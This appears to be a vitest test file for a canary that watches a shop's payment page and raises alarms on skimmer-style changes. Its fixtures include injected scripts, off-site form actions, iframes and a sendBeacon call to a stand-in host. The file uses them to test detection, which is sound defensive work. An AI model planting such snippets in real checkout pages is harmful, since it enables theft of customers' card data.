import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { bundleFolder } from '../../../lib/environment/lambda/bundle-folder.ts';
import { inventoryOf } from '../../../lib/environment/payment-page/inventory.ts';
import { observe } from '../../../lib/environment/payment-page/observe.ts';
import { program } from '../../support/programs.ts';
import { type Checkout, Shop } from './checkout.ts';

const chrome = program('chromium');

/**
 * What the canary brings along in AWS. One browser serves all runs, for its start takes longer than a visit; a run that
 * does not close it, or leaves something open in it, is an error of the next.
 */
const runtime = `
  import { createRequire } from 'node:module';
  const { chromium } = createRequire(process.env.PLAYWRIGHT)('playwright-core');
  let isOpen = false;
  export const browser = await chromium.launch({ executablePath: process.env.CHROMIUM, args: ['--no-sandbox'] });
  export const synthetics = {
    launch: async () => {
      if (isOpen || browser.contexts().length > 0) throw new Error('the run before has not closed its browser');
      isOpen = true;
      return browser;
    },
    close: async () => {
      isOpen = false;
    },
  };
`;

describe.skipIf(chrome.missing)(`the canary that watches the payment page (${chrome.install})`, () => {
  let shop: Shop;
  let cloudWatch: Server;
  let folder: string;
  let browser: Browser;
  let handler: () => Promise<void>;
  let counted: Record<string, number> = {};

  /** CloudWatch, as far as a canary counts with it. */
  function openCloudWatch(): Promise<Server> {
    const server = createServer(async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const { Namespace, MetricData } = JSON.parse(Buffer.concat(chunks).toString()) as {
        Namespace: string;
        MetricData: { MetricName: string; Value: number }[];
      };
      if (Namespace === 'SecureShop/PaymentPage')
        counted = Object.fromEntries(MetricData.map(({ MetricName, Value }) => [MetricName, Value]));
      response.writeHead(200, { 'content-type': 'application/x-amz-json-1.0' }).end('{}');
    });
    return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
  }

  beforeAll(async () => {
    shop = await Shop.open();
    cloudWatch = await openCloudWatch();
    folder = mkdtempSync(join(tmpdir(), 'canary-'));
    cpSync(bundleFolder('page-watch'), folder, { recursive: true });
    const modules = join(folder, 'node_modules', '@aws', 'synthetics-playwright');
    mkdirSync(modules, { recursive: true });
    writeFileSync(join(modules, 'package.json'), '{"name":"@aws/synthetics-playwright","main":"index.mjs"}');
    writeFileSync(join(modules, 'index.mjs'), runtime);
    const environment = {
      PLAYWRIGHT: createRequire(import.meta.url).resolve('playwright-core/package.json'),
      CHROMIUM: chrome.path ?? '',
      WATCH_NAME: 'hana-production-payment',
      AWS_REGION: 'ap-northeast-1',
      AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
      AWS_SECRET_ACCESS_KEY: 'example',
      AWS_ENDPOINT_URL_CLOUDWATCH: `http://127.0.0.1:${(cloudWatch.address() as AddressInfo).port}`,
    };
    for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
    ({ browser } = await import(/* @vite-ignore */ pathToFileURL(join(modules, 'index.mjs')).href));
    const visit = { origin: shop.origin, paths: ['/checkout'], settle: 300 };
    const inventory = inventoryOf(await observe(browser, visit));
    writeFileSync(join(folder, 'watched-page.json'), JSON.stringify({ visit, inventory }));
    ({ handler } = await import(/* @vite-ignore */ pathToFileURL(join(folder, 'index.mjs')).href));
  });

  afterAll(async () => {
    await browser?.close();
    vi.unstubAllEnvs();
    shop.close();
    cloudWatch.close();
    cloudWatch.closeAllConnections();
    rmSync(folder, { recursive: true });
  });

  async function run(checkout: Checkout): Promise<string> {
    counted = {};
    shop.checkout = JSON.parse(JSON.stringify(checkout).replaceAll('ELSEWHERE', shop.elsewhere));
    try {
      await handler();
      return '';
    } catch (error) {
      return (error as Error).message;
    }
  }

  it.each<[what: string, Checkout]>([
    ['nothing', {}],
    ['a price', { products: [{ name: 'Candle', price: 1300 }] }],
    ['a text', { notice: 'Closed on <b>Monday</b>' }],
    [
      'a new product',
      {
        products: [
          { name: 'Candle', price: 1200 },
          { name: 'Soap', price: 480 },
        ],
      },
    ],
  ])('is silent when %s changes, and counts that it has read the page', async (_, checkout) => {
    expect(await run(checkout)).toBe('');
    expect(counted).toEqual({ PageRead: 1, LoudChanges: 0, OtherChanges: 0 });
  });

  it.each<[what: string, Checkout, RegExp]>([
    [
      'code in the page',
      { body: '<script>document.forms[0].onsubmit = () => 0</script>' },
      /^ALARM {2}new code/,
    ],
    [
      'a script of another host',
      { head: '<script src="http://ELSEWHERE/s.js"></script>' },
      /^ALARM .*new host/,
    ],
    ['a form that sends elsewhere', { formAction: 'http://ELSEWHERE/pay' }, /^ALARM .*new host/],
    [
      'a form that sends to another path',
      { formAction: '/uploads/pay.php' },
      /^ALARM .*form sends elsewhere/,
    ],
    ['a moved base', { head: '<base href="http://ELSEWHERE/">' }, /^ALARM/],
    ['a handler', { body: '<input onkeyup="this.form.q=1">' }, /^ALARM .*event handler/],
    ['a frame', { body: '<iframe src="http://ELSEWHERE/f"></iframe>' }, /^ALARM/],
    ['a field for a card', { body: '<input name="card_number">' }, /^ALARM .*asks for a card/],
    [
      'a beacon in a known file',
      { code: 'addEventListener("load", () => navigator.sendBeacon("http://ELSEWHERE/c", "4"));' },
      /^ALARM .*new host/,
    ],
    [
      'code made of a text',
      { code: 'addEventListener("load", () => eval("window.a" + "=1"));' },
      /^ALARM .*makes new code/,
    ],
    ['a changed file', { code: '/* patched */' }, /^changed .*is not what it was/],
    ['a header that is gone', { headers: { 'x-content-type-options': '' } }, /^changed .*header/],
  ])('fails with words when a skimmer brings %s', async (_, checkout, words) => {
    const said = await run(checkout);
    expect(said).toMatch(words);
    const lines = said.split('\n');
    const loud = lines.filter((line) => line.startsWith('ALARM')).length;
    expect(counted).toEqual({ PageRead: 1, LoudChanges: loud, OtherChanges: lines.length - loud });
  });

  it('counts nothing when the page cannot be read: that the alarm waits for', async () => {
    const file = join(folder, 'watched-page.json');
    const written = readFileSync(file, 'utf8');
    writeFileSync(file, written.replace('"/checkout"', '"/gone"'));
    expect(await run({})).toContain('/gone answered 404');
    expect(counted).toEqual({});
    writeFileSync(file, written);
  });
});
